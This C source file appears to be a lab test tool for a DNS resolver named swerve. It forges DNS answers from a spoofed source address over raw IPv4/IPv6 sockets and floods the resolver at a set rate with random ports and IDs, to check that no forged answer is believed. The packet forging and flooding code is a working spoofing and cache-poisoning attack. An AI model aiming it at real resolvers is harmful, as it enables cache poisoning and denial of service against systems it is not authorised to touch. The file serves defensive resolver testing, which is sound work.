/*
 * An attacker off the path who guesses: floods replies with a site's source address at swerve's
 * source address, with random ports and IDs, each a well-formed answer with a wrong address and a
 * signature that cannot verify. Nothing of it may be believed, and nothing may move.
 *
 *   spoof --from ADDR --to ADDR --question NAME [--rate PER_SECOND] [--count N]
 *
 * Needs a raw socket; IPv4 and IPv6. Prints how many were sent.
 */
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "dns/name.h"
#include "dns/wire.h"
#include "tests/lab/net.h"

enum { PACKET_MAX = 512 };

struct packet {
	uint8_t octets[PACKET_MAX];
	size_t len, l4, dns;
};

static uint32_t sum_words(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += dns_get16(p + i);
	return len % 2 ? sum + ((uint32_t)p[len - 1] << 8) : sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* Question, one A record, one RRSIG of noise. @return octets */
static size_t make_reply(uint8_t *out, const struct dns_name *qname)
{
	uint8_t *p = out;

	memset(p, 0, DNS_HEADER_LEN);
	dns_put16(p + DNS_OFF_FLAGS, DNS_FLAG_QR | DNS_FLAG_AA);
	dns_put16(p + DNS_OFF_QDCOUNT, 1);
	dns_put16(p + DNS_OFF_ANCOUNT, 2);
	p += DNS_HEADER_LEN;
	memcpy(p, qname->octets, qname->len);
	p += qname->len;
	dns_put32(p, DNS_TYPE_A << 16 | DNS_CLASS_IN);
	p += 4;
	memcpy(p, "\xc0\x0c\0\1\0\1\0\0\x0e\x10\0\4\x7f\0\0\1", 16);
	p += 16;
	memcpy(p, "\xc0\x0c\0\x2e\0\1\0\0\x0e\x10\0\x57\0\1\x0d\2\0\0\x0e\x10", 20);
	p += 20;
	dns_put32(p, 0xffffffff / 2);
	dns_put32(p + 4, 1);
	dns_put16(p + 8, 4711);
	memcpy(p + 10, "\3com", 5);
	memset(p + 15, 0x5a, 64);
	return (size_t)(p + 79 - out);
}

static void make_ip4(struct packet *pk, const struct lab_addr *from, const struct lab_addr *to)
{
	struct ip *ip = (struct ip *)pk->octets;

	memset(ip, 0, sizeof(*ip));
	ip->ip_v = 4;
	ip->ip_hl = 5;
	ip->ip_ttl = 64;
	ip->ip_p = IPPROTO_UDP;
	ip->ip_len = htons((uint16_t)pk->len);
	ip->ip_src = ((const struct sockaddr_in *)&from->sa)->sin_addr;
	ip->ip_dst = ((const struct sockaddr_in *)&to->sa)->sin_addr;
	// the kernel fills the header's checksum
}

static void make_ip6(struct packet *pk, const struct lab_addr *from, const struct lab_addr *to)
{
	struct ip6_hdr *ip = (struct ip6_hdr *)pk->octets;

	memset(ip, 0, sizeof(*ip));
	ip->ip6_flow = htonl(6u << 28);
	ip->ip6_nxt = IPPROTO_UDP;
	ip->ip6_hlim = 64;
	ip->ip6_plen = htons((uint16_t)(pk->len - pk->l4));
	ip->ip6_src = ((const struct sockaddr_in6 *)&from->sa)->sin6_addr;
	ip->ip6_dst = ((const struct sockaddr_in6 *)&to->sa)->sin6_addr;
}

/* Draw port and ID, then the checksum over what never changes plus these. */
static uint16_t aim(struct packet *pk, bool v6)
{
	struct udphdr *udp = (struct udphdr *)(pk->octets + pk->l4);
	size_t addrs = v6 ? 8 : 12, addr_len = v6 ? 32 : 8;
	uint32_t sum = IPPROTO_UDP + (uint32_t)(pk->len - pk->l4);
	uint16_t port = (uint16_t)(1024 + random() % 64512);

	dns_put16(pk->octets + pk->dns, (uint16_t)random());
	udp->source = htons(53);
	udp->dest = htons(port);
	udp->len = htons((uint16_t)(pk->len - pk->l4));
	udp->check = 0;
	sum = sum_words(sum, pk->octets + addrs, addr_len);
	udp->check = htons(fold(sum_words(sum, udp, pk->len - pk->l4)));
	return port;
}

static unsigned long flood(
	struct packet *pk, const struct lab_addr *to, unsigned rate, unsigned long count)
{
	bool v6 = to->sa.ss_family == AF_INET6;
	int fd = socket(to->sa.ss_family, SOCK_RAW, IPPROTO_RAW);
	uint64_t started = lab_now_ms();
	unsigned long sent = 0;
	struct lab_addr dst = *to;

	if (fd < 0)
		err(1, "raw socket");
	if (v6)
		((struct sockaddr_in6 *)&dst.sa)->sin6_port = 0;
	for (unsigned long n = 0; n < count; n++) {
		aim(pk, v6);
		if (sendto(fd, pk->octets, pk->len, 0, (struct sockaddr *)&dst.sa, dst.len) ==
			(ssize_t)pk->len)
			sent++;
		else if (errno != ENOBUFS)
			err(1, "sendto");
		while (lab_now_ms() - started < n * 1000 / rate)
			usleep(500);
	}
	close(fd);
	return sent;
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
		{"from", required_argument, NULL, 'f'},
		{"to", required_argument, NULL, 't'},
		{"question", required_argument, NULL, 'q'},
		{"rate", required_argument, NULL, 'r'},
		{"count", required_argument, NULL, 'n'},
		{0},
	};
	struct lab_addr from = {0}, to = {0};
	struct dns_name qname = {.len = 0};
	unsigned rate = 10000;
	unsigned long count = 10000;
	struct packet pk;
	int c;

	while ((c = getopt_long(argc, argv, "", options, NULL)) != -1) {
		switch (c) {
		case 'f':
			from = lab_addr_parse(optarg, 0);
			break;
		case 't':
			to = lab_addr_parse(optarg, 0);
			break;
		case 'q':
			if (dns_name_from_text(optarg, &qname) != 0)
				errx(2, "%s: not a name", optarg);
			break;
		case 'r':
			rate = (unsigned)atoi(optarg);
			break;
		case 'n':
			count = strtoul(optarg, NULL, 10);
			break;
		default:
			return 2;
		}
	}
	if (from.len == 0 || to.len == 0 || from.sa.ss_family != to.sa.ss_family ||
		qname.len == 0 || rate == 0)
		errx(2, "usage: spoof --from ADDR --to ADDR --question NAME [--rate N] [--count "
			"N]");
	pk.l4 = to.sa.ss_family == AF_INET6 ? sizeof(struct ip6_hdr) : sizeof(struct ip);
	pk.dns = pk.l4 + sizeof(struct udphdr);
	pk.len = pk.dns + make_reply(pk.octets + pk.dns, &qname);
	if (to.sa.ss_family == AF_INET6)
		make_ip6(&pk, &from, &to);
	else
		make_ip4(&pk, &from, &to);
	printf("sent %lu\n", flood(&pk, &to, rate, count));
	return 0;
}
